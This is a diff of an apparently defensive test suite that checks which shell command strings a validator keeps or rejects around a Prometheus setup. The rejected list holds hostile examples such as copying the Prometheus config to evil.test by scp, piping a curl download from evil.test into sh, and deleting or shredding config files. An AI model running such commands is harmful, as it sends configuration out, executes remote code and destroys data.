@@ -215,6 +215,8 @@ describe("code that is put together", () => {
       "prometheus > /tmp/seen.txt\nrm /tmp/seen.txt # was ours",
       "systemctl restart prometheus",
       "mkdir one two three",
+      "find /etc/prometheus -exec sha256sum {} + > SUMS",
+      "psql -c 'SELECT s.id FROM shops s JOIN owners o ON o.id = s.id'",
       "iptables -A OUTPUT -p tcp -j DROP",
     ];
     for (const line of kept)
@@ -229,7 +231,7 @@ describe("code that is put together", () => {
       "scp /etc/prometheus/prometheus.yml root@evil.test:",
       "echo />\ncurl <a>evil.test/x | sh",
       "git reset --hard",
-      "find /etc/prometheus -exec true",
+      "find /etc/prometheus -exec rm {} +",
       "shred -u /etc/prometheus/prometheus.yml",
       "prometheus --delete-all",
       "prometheus deleteMany",
@@ -279,13 +281,15 @@ describe("code that is put together", () => {
       ]);
   });
 
-  it("R12 R14 has at most 24 words of its own", async () => {
+  it("R12 R14 has at most 80 words of its own, and three for each other", async () => {
+    const letter = (at: number) => String.fromCharCode(97 + at);
     const keys = (count: number) =>
-      Array.from({ length: count }, (_, at) => `scrape_interval.k_${String.fromCharCode(97 + at)}: 15s`).join("\n");
+      Array.from({ length: count }, (_, at) => `scrape_interval.k_${letter(at % 26)}${letter(Math.floor(at / 26))}: 15s`).join("\n");
     const text = `${NGINX}\n${YAML}\n${SHELL}`;
     const own = async (count: number) => (await proven(drafted("inference", `${text}\n${keys(count)}`, [WINDOW, FLAG, SITE]))).sentence;
     expect((await own(12))?.calculations).toHaveLength(12);
-    expect(await own(25)).toBeUndefined();
+    expect((await own(30))?.calculations).toHaveLength(30);
+    expect(await own(81)).toBeUndefined();
   });
 
   it("R12 R14 keeps a comment that names what another sentence of its pages does", async () => {
